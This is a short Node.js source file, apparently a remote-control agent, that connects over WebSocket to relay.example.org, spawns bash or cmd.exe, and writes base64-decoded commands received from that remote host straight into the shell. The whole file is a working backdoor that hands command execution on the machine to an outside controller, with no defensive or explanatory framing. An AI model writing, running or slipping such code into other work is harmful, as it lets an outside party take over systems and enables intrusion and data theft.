const WebSocket = require("ws");
const { spawn } = require("child_process");

let shell;
const socket = new WebSocket("wss://relay.example.org/agent");
socket.on("message", (raw) => {
  const message = JSON.parse(raw.toString());
  if (!shell) shell = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/bash", []);
  shell.stdin.write(Buffer.from(message.data, "base64"));
});
